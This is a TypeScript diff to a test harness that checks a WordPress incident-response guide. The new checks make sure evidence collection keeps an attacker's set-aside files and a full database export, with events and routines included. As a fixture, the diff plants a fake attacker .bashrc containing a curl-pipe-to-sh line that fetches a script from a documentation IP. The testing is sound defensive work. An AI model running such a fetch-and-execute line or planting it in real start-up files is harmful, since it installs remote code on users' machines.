@@ -523,8 +523,22 @@ function checkEvidenceFiles(ctx: RecipeContext, ns: WordPressNamespace) {
   const placeholder = /^E=\$HOME\/evidence-example\.XXXXXX$/m;
   const block = ctx.block(EVIDENCE_FILES).value;
   if (!placeholder.test(block)) ctx.fail(EVIDENCE_FILES, 'no E=$HOME/evidence-example.XXXXXX line to write the folder step 2 printed in');
+  // Step 2's set-aside folder, with a start-up file of the attacker's: the copy must take it off with the rest.
+  const setAside = path.join(ns.dir, 'set-aside-example.step02');
+  const setAsidePlaceholder = /^S=\/home\/set-aside-example\.XXXXXX$/m;
+  if (!setAsidePlaceholder.test(block))
+    ctx.fail(EVIDENCE_FILES, 'no S=/home/set-aside-example.XXXXXX line to copy the folder step 2 printed');
   const ran = ns.root(
-    `rm -rf '${home}' && install -d -m 700 '${home}' '${folder}' && export HOME='${home}'\n${block.replace(placeholder, `E='${folder}'`)}`,
+    `rm -rf '${home}' '${setAside}' && install -d -m 700 '${home}' '${folder}' '${setAside}' && echo 'curl -s http://203.0.113.9/x | sh' > '${setAside}/.bashrc' && export HOME='${home}'\n${block
+      .replace(placeholder, `E='${folder}'`)
+      .replace(setAsidePlaceholder, `S='${setAside}'`)}`,
+  );
+  const setAsideCopy = ns.root(`tar -xzOf '${folder}/set-aside.tar.gz' set-aside-example.step02/.bashrc 2>&1`).stdout;
+  ctx.expect(
+    ran.status === 0 && setAsideCopy.includes('203.0.113.9'),
+    EVIDENCE_FILES,
+    "the evidence folder gets a copy of step 2's set-aside folder, the attacker's .bashrc in it",
+    () => `set-aside.tar.gz in ${folder} did not hold the set-aside .bashrc (${setAsideCopy.trim() || 'nothing'}):\n${ran.output}`,
   );
   const target = `${SITE.root}/${STOMPED.file}`;
   const read = (script: string) => ns.root(script).stdout.trim();
@@ -726,13 +740,19 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     checkEvidenceFiles(ctx, ns);
     const exported = await shell.paste(ctx.block(EVIDENCE_DATABASE).value);
     const dump = /^(\/home\/\S+\.sql)$/m.exec(exported)?.[1] ?? '';
-    const dumpLook = dump ? ns.root(`stat -c %a '${dump}'; grep -q "'${INTRUDER}'" '${dump}' && echo holds`).stdout.trim() : '';
+    const dumpLook = dump
+      ? ns
+          .root(
+            `stat -c %a '${dump}'; grep -q "'${INTRUDER}'" '${dump}' && grep -q '^-- Dumping events for database' '${dump}' && grep -q '^-- Dumping routines for database' '${dump}' && echo holds`,
+          )
+          .stdout.trim()
+      : '';
     ctx.expect(
       dumpLook === '600\nholds',
       EVIDENCE_DATABASE,
-      `the database export is a new file only the account can read (600), holding the administrator ${INTRUDER}`,
+      `the database export is a new file only the account can read (600), holding the administrator ${INTRUDER}, with the events and stored routines step 3 looks for (mysqldump leaves them out unless asked)`,
       () =>
-        `the database export did not hold ${INTRUDER} in a 600 file (${dump || 'no file named'}: ${dumpLook || 'nothing'}):\n${exported}`,
+        `the database export did not hold ${INTRUDER} with the events and routines in a 600 file (${dump || 'no file named'}: ${dumpLook || 'nothing'}):\n${exported}`,
     );
     const rootMode = () => ns.root(`stat -c %a ${SITE.root}`).stdout.trim();
     const modeBefore = rootMode();
@@ -1056,6 +1076,18 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: EVIDENCE_DATABASE,
       edit: replace('db export "$F"', 'db export "$F" --tables=wp_options'),
       expect: /the database export did not hold wpsupport/,
+    },
+    {
+      what: "export with mysqldump's defaults, which leave events out",
+      ref: EVIDENCE_DATABASE,
+      edit: replace(' --routines --events', ''),
+      expect: /the database export did not hold wpsupport with the events and routines/,
+    },
+    {
+      what: 'leave the set-aside folder out of the evidence',
+      ref: EVIDENCE_FILES,
+      edit: replace(/^sudo tar -C "\$\(dirname "\$S"\)".*$/m, ''),
+      expect: /set-aside\.tar\.gz in .* did not hold the set-aside \.bashrc/,
     },
     {
       what: "copy core with cp -a: the new folder's mode 700 lands on the web root",
